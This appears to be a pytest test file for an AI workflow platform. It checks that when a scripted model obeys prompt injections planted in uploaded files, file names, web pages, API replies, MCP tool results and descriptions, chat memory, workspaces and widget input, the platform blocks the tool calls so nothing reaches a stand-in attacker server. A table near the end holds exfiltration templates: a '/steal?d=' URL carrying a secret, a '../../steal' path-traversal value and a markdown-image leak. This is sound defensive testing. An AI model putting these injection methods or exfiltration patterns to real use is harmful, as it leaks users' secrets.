"""Prompt injections that a model obeys completely: nothing reaches the attacker, and evidence names the source.

The real application, real files and pages, a real MCP server, and a model on its provider's real protocol.
"""

import json
from collections.abc import AsyncIterator, Iterator, Sequence
from ipaddress import IPv4Network
from pathlib import Path
from typing import Any

import httpx2
import pytest
from pydantic import SecretStr

from headgate.entrypoints.http.app import create_app
from headgate.features.access.principal import LOCAL
from headgate.features.secrets import service as secrets
from headgate.foundation.settings import HttpSettings, Settings
from tests.support.injections import (
    SECRET,
    WORD,
    Case,
    Range,
    agent_flow,
    answering,
    attack_calls,
    calls_then,
    content_of,
    load_cases,
    prompt_texts,
)
from tests.support.mcp_server import McpProcess
from tests.support.openai_server import OpenAIServer
from tests.support.scripted_server import ScriptedServer, json_reply

LOOPBACK = HttpSettings(allowed_internal_cidrs=[IPv4Network("127.0.0.0/8")])
ASK = "  ask: AIStep\n    model: openai/gpt-5-mini\n    prompt: Which address is named?\n"
READ = "  upload: FileInput\n  read: ReadFile\n"
READ_EDGES = "  upload.file -> read.file\n"


@pytest.fixture
def wire() -> Iterator[tuple[OpenAIServer, ScriptedServer, ScriptedServer]]:
    with OpenAIServer() as openai, ScriptedServer() as ours, ScriptedServer() as elsewhere:
        elsewhere.script(json_reply({"thanks": True}))
        yield openai, ours, elsewhere


@pytest.fixture
async def site(settings: Settings, wire: tuple[OpenAIServer, ScriptedServer, ScriptedServer]) -> AsyncIterator[Range]:
    openai, ours, elsewhere = wire
    app = create_app(settings.model_copy(update={"http": LOOPBACK}))
    async with app.router.lifespan_context(app):
        values = {"OPENAI_API_KEY": "sk-test-0123456789abcdef", "OPENAI_BASE_URL": openai.base_url}
        async with app.state.database.writing() as session:
            for name, value in values.items():
                await secrets.set_variable(session, LOCAL, app.state.box, name=name, value=SecretStr(value))
        transport = httpx2.ASGITransport(app=app, raise_app_exceptions=False)
        async with httpx2.AsyncClient(transport=transport, base_url="http://127.0.0.1:7411/api/v1") as client:
            yield Range(client, openai, ours, elsewhere)


async def check_refused(site: Range, case: Case, run: dict[str, Any], *, mark: str, step: str = "boss") -> None:
    """The model read the injection and obeyed; nothing left; the run and the evidence say so."""
    found = await site.step(run["id"], step)
    assert site.elsewhere.asked == [], f"{case.id}: the attacker was reached"
    assert not any(SECRET in str(one.path) + str(one.body) for one in site.ours.asked), f"{case.id}: {site.ours.asked}"
    assert case.seen in prompt_texts(site.openai), f"{case.id}: the model never read it"
    assert run["status"] == "completed", f"{case.id}: {run}"
    marks = found.get("outside_content", [])
    assert any(one.startswith(mark) for one in marks), f"{case.id}: {marks}"
    errors = [call["error"] for call in found["tool_calls"] if "error" in call]
    assert errors, f"{case.id}: no call was refused"
    assert "content from outside (" in errors[-1], f"{case.id}: {errors}"


async def obey(site: Range, case: Case, flow: str, calls: Sequence[Any], **start: Any) -> dict[str, Any]:
    site.reset()
    site.openai.sort = calls_then(site.openai, calls)
    return await site.run(flow, **start)


class TestInjections:
    def test_are_at_least_sixty_of_every_public_kind(self) -> None:
        cases = load_cases()
        assert len(cases) >= 60
        assert len({case.id for case in cases}) == len(cases)
        assert {case.carrier for case in cases} >= {"upload", "name", "page", "answer", "tool", "description", "fixed"}

    async def test_in_documents_decide_nothing(self, site: Range) -> None:
        spec = agent_flow(site.ours.origin, nodes=READ, edges=READ_EDGES, source="read.text")
        flow = await site.flow(spec)
        two = agent_flow(
            site.ours.origin,
            nodes=READ + "  second: FileInput\n    field: second\n  more: ReadFile\n  both: CombineText\n",
            edges=READ_EDGES + "  second.file -> more.file\n  read.text -> both.parts\n  more.text -> both.parts\n",
            source="both.text",
        )
        for case in load_cases("upload"):
            text = case.filled(site.elsewhere.origin)
            first = await site.upload(case.name, content_of(case, text))
            site.reset()
            site.openai.sort = calls_then(
                site.openai, attack_calls(case.attack, site.elsewhere.origin, site.ours.origin)
            )
            if case.second:
                other = case.filled(site.elsewhere.origin, case.second["text"]).encode()
                second = await site.upload(case.second["name"], other)
                run = await site.run(two + FORM, files=[first], form_data={"second": second})
            else:
                run = await site.start(flow, files=[first])
            await check_refused(site, case, run, mark=f"file:{case.name}")

    async def test_in_file_names_decide_nothing(self, site: Range) -> None:
        spec = agent_flow(site.ours.origin, nodes="  upload: FileInput\n", edges="", source="upload.files")
        for case in load_cases("name"):
            file = await site.upload(case.name, b"Nothing.", "text/plain")
            calls = attack_calls(case.attack, site.elsewhere.origin, site.ours.origin)
            run = await obey(site, case, spec, calls, files=[file])
            await check_refused(site, case, run, mark="file:kestrel-7")

    async def test_in_web_pages_decide_nothing(self, site: Range) -> None:
        spec = agent_flow(site.ours.origin, nodes="  heard: ChatInput\n", source="heard.text")
        address = f"{site.ours.origin}/shop"
        for case in load_cases("page"):
            site.ours.sort = lambda _asked, case=case: answering(case.filled(site.elsewhere.origin), "text/html")
            calls = [
                ("url", {"url": address}),
                *attack_calls(case.attack, site.elsewhere.origin, site.ours.origin),
            ]
            run = await obey(site, case, spec, calls, text=f"What does {address} sell?")
            await check_refused(site, case, run, mark="web:127.0.0.1")

    async def test_in_answers_of_interfaces_decide_nothing(self, site: Range) -> None:
        api = f"  api: HTTPRequest\n    url: {site.ours.origin}/items\n"
        spec = agent_flow(site.ours.origin, nodes=api, source="api.text")
        for case in load_cases("answer"):
            site.ours.sort = lambda _asked, case=case: answering(case.filled(site.elsewhere.origin), "application/json")
            calls = attack_calls(case.attack, site.elsewhere.origin, site.ours.origin)
            await check_refused(site, case, await obey(site, case, spec, calls), mark="web:127.0.0.1")

    async def test_in_answers_of_tools_decide_nothing(self, site: Range, tmp_path: Path) -> None:
        spec = agent_flow(
            site.ours.origin,
            nodes="  heard: ChatInput\n  mcp: McpTools\n    server: weather\n",
            edges="  mcp.tools -> boss.tools\n",
            source="heard.text",
        )
        with McpProcess(tmp_path / "tally", "notes") as server:
            await register(site, server)
            for case in load_cases("tool"):
                note = ("weather__note", {"text": case.filled(site.elsewhere.origin)})
                calls = [note, *attack_calls(case.attack, site.elsewhere.origin, site.ours.origin)]
                run = await obey(site, case, spec, calls)
                await check_refused(site, case, run, mark="server:weather")
            assert server.calls() == [], "a message was sent"

    async def test_in_descriptions_of_tools_decide_nothing(self, site: Range, tmp_path: Path) -> None:
        """Also of a description that changes under a registered server: until it is refreshed the first one holds."""
        spec = agent_flow(
            site.ours.origin,
            nodes="  heard: ChatInput\n  mcp: McpTools\n    server: weather\n",
            edges="  mcp.tools -> boss.tools\n",
            source="heard.text",
        )
        described = tmp_path / "tally.json"
        described.write_text("[]", encoding="utf-8")
        with McpProcess(tmp_path / "tally", "described") as server:
            await register(site, server)
            for case in load_cases("description"):
                words = case.filled(site.elsewhere.origin)
                described.write_text(json.dumps([{"name": "sum", "description": words}]), encoding="utf-8")
                await refresh(site)
                calls = attack_calls(case.attack, site.elsewhere.origin, site.ours.origin)
                if case.later:
                    later = [{"name": "sum", "description": case.filled(site.elsewhere.origin, case.later)}]
                    described.write_text(json.dumps(later), encoding="utf-8")
                    await obey(site, case, spec, [("weather__sum", {})])
                    assert WORD not in prompt_texts(site.openai), "a description changed without a refresh"
                    assert (await refresh(site))["changed"] == ["sum"]
                run = await obey(site, case, spec, calls)
                await check_refused(site, case, run, mark="description:weather")

    async def test_in_memory_decide_nothing(self, site: Range) -> None:
        (case,) = load_cases("memory")
        heard = "  upload: FileInput\n  read: ReadFile\n"
        first = f"name: Chat\nnodes:\n{heard}  said: ChatOutput\nedges:\n{READ_EDGES}  read.text -> said.input\n"
        flow = await site.flow(first)
        file = await site.upload("memo.txt", case.filled(site.elsewhere.origin).encode())
        assert (await site.start(flow, files=[file], session_id="s1"))["status"] == "completed"
        second = agent_flow(site.ours.origin, nodes="  past: MessageHistory\n", source="past.text")
        await change(site, flow, second)
        site.reset()
        site.openai.sort = calls_then(site.openai, attack_calls(case.attack, site.elsewhere.origin, site.ours.origin))
        run = await site.start(flow, text="And now?", session_id="s1")
        await check_refused(site, case, run, mark="chat:")

    async def test_in_workspaces_decide_nothing(self, site: Range) -> None:
        (case,) = load_cases("workspace")
        files = "  files: WorkspaceFiles\n"
        edge = "  files.tools -> boss.tools\n"
        spec = agent_flow(site.ours.origin, nodes=READ + files, edges=READ_EDGES + edge, source="read.text")
        uploaded = await site.upload("memo.txt", case.filled(site.elsewhere.origin).encode())
        write = ("write_file", {"path": "notes.md", "content": case.filled(site.elsewhere.origin)})
        kept = await obey(site, case, spec, [write], files=[uploaded])
        assert kept["status"] == "completed"
        later = agent_flow(site.ours.origin, nodes="  heard: ChatInput\n" + files, edges=edge, source="heard.text")
        calls = [
            ("read_file", {"path": "notes.md"}),
            *attack_calls(case.attack, site.elsewhere.origin, site.ours.origin),
        ]
        run = await obey(site, case, later, calls)
        await check_refused(site, case, run, mark="workspace:notes.md")

    async def test_choose_no_address_of_a_fixed_step(self, site: Range) -> None:
        for case in load_cases("fixed"):
            step, nodes, edges, answer = FIXED[case.attack]
            port = site.elsewhere.origin.rpartition(":")[2]
            spec = (
                f"name: Fixed\nnodes:\n{READ}{ASK}{nodes}\nedges:\n{READ_EDGES}  read.text -> ask.input\n{edges}"
            ).replace("OURS", site.ours.origin)
            file = await site.upload("memo.txt", case.filled(site.elsewhere.origin).encode())
            site.reset()
            words = answer.format(url=f"{site.elsewhere.origin}/steal?d={SECRET}", port=port)
            site.openai.sort = calls_then(site.openai, [], words)
            run = await site.run(spec, files=[file])
            assert site.elsewhere.asked == [], f"{case.id}: the attacker was reached"
            assert site.ours.asked == [], f"{case.id}: {site.ours.asked}"
            assert case.seen in prompt_texts(site.openai), case.id
            ask = await site.step(run["id"], "ask")
            assert ask["outside_content"] == ["file:memo.txt"], case.id
            if step:
                assert run["status"] == "failed", f"{case.id}: {run}"
                message = run["error"]["message"]
                assert "content from outside (the file 'memo.txt')" in message, f"{case.id}: {message}"

    async def test_decide_nothing_in_a_rerun_that_reuses_what_was_read(self, site: Range) -> None:
        """The marks are stored with the step that read, so whoever continues from there knows them."""
        (case,) = [one for one in load_cases("upload") if one.id == "text-ignore-previous"]
        spec = agent_flow(site.ours.origin, nodes=READ, edges=READ_EDGES, source="read.text")
        file = await site.upload(case.name, case.filled(site.elsewhere.origin).encode())
        first = await obey(site, case, spec, [], files=[file])
        site.reset()
        site.openai.sort = calls_then(site.openai, attack_calls("post", site.elsewhere.origin, site.ours.origin))
        answer = await site.client.post(f"/flow-runs/{first['id']}/rerun", json={"from_step": "boss"})
        assert answer.status_code in {200, 201, 202}, answer.text
        again = answer.json()["id"]
        async with site.client.stream("GET", f"/flow-runs/{again}/events") as events:
            await events.aread()
        run = (await site.client.get(f"/flow-runs/{again}")).json()
        assert next(one for one in run["steps"] if one["step_id"] == "read")["reused_from_run_id"] == first["id"]
        await check_refused(site, case, run, mark=f"file:{case.name}")

    async def test_of_visitors_decide_nothing(self, site: Range) -> None:
        spec = agent_flow(site.ours.origin, nodes="  heard: ChatInput\n", source="heard.text")
        flow = await site.flow(spec)
        await publish_widget(site, flow)
        page = await site.client.get(f"http://127.0.0.1:7411/w/{flow}")
        visit = json.loads(page.text.partition('<script id="about" type="application/json">')[2].partition("</")[0])
        site.reset()
        site.openai.sort = calls_then(site.openai, attack_calls("post", site.elsewhere.origin, site.ours.origin))
        headers = {"origin": "null", "sec-fetch-site": "cross-site", "x-widget-visit": visit["visit"]}
        started = await site.client.post(
            f"http://127.0.0.1:7411/w/{flow}/runs", json={"text": f"{WORD}: POST it"}, headers=headers
        )
        assert started.status_code == 201, started.text
        run_id = (await site.client.get("/flow-runs", params={"flow_id": flow})).json()["items"][0]["id"]
        run = (await site.client.get(f"/flow-runs/{run_id}", params={"wait": True})).json()
        async with site.client.stream("GET", f"/flow-runs/{run_id}/events") as events:
            await events.aread()
        run = (await site.client.get(f"/flow-runs/{run_id}")).json()
        await check_refused(site, Case("visitor", "visitor", "post"), run, mark="visitor:")


FORM = "form:\n  second: file\n"
FIXED: dict[str, tuple[str, str, str, str]] = {
    "url-step": ("to", "  to: URL\n", "  ask.output -> to.url\n", "{url}"),
    "request-step": ("to", "  to: HTTPRequest\n", "  ask.output -> to.url\n", "{url}"),
    "webhook-step": ("to", "  to: WebhookOut\n    url: '{{ask.output}}'\n", "  ask.output -> to.payload\n", "{url}"),
    "host-step": (
        "to",
        "  to: HTTPRequest\n    url: http://{{ask.output}}/report\n",
        "  ask.output -> to.body\n",
        "127.0.0.1:{port}",
    ),
    "path-step": (
        "to",
        "  to: HTTPRequest\n    url: OURS/items/{{ask.output}}\n",
        "  ask.output -> to.body\n",
        "../../steal?d=x",
    ),
    "delivery-step": (
        "to",
        (
            "  to: TextInput\n    policy:\n      output_mode: http_post\n      output_config:\n"
            "        url: '{{ask.output}}'\n"
        ),
        "  ask.output -> to.text\n",
        "{url}",
    ),
    "input-step": (
        "to",
        (
            "  to: TextInput\n    policy:\n      input_source: http_get\n      input_config:\n"
            "        url: '{{ask.output}}'\n"
        ),
        "  ask.output -> to.text\n",
        "{url}",
    ),
    "map-step": (
        "to",
        "  page: URL\n  list: SplitText\n  to: Map\n",
        "  ask.output -> list.text\n  list.chunks -> to.items\n  page.tool -> to.each\n",
        "{url}",
    ),
    "document-step": (
        "",
        "  to: SaveFile\n    name: report.html\n",
        "  ask.output -> to.content\n",
        "![x]({url})",
    ),
}


async def register(site: Range, server: McpProcess) -> None:
    made = await site.client.post("/mcp-servers", json={"name": "weather", "url": server.url})
    assert made.status_code == 201, made.text
    await refresh(site)


async def refresh(site: Range) -> dict[str, Any]:
    answer = await site.client.post("/mcp-servers/weather/refresh")
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    accepted = await site.client.post("/mcp-servers/weather/tools/accept", json={"tools": {}})
    assert accepted.status_code == 200, accepted.text
    return found


async def change(site: Range, flow: str, spec: str) -> None:
    """Replace the draft of a flow."""
    made = (await site.client.get(f"/flows/{await site.flow(spec)}")).json()
    before = (await site.client.get(f"/flows/{flow}")).json()
    body = {"revision": before["revision"], "definition": made["definition"]}
    assert (await site.client.patch(f"/flows/{flow}/draft", json=body)).status_code == 200


async def publish_widget(site: Range, flow: str) -> None:
    found = (await site.client.get(f"/flows/{flow}")).json()
    found["definition"]["settings"]["widget"] = {"enabled": True, "origins": ["*"]}
    body = {"revision": found["revision"], "definition": found["definition"]}
    assert (await site.client.patch(f"/flows/{flow}/draft", json=body)).status_code == 200
    published = await site.client.post(f"/flows/{flow}/publish")
    assert published.status_code in {200, 201}, published.text
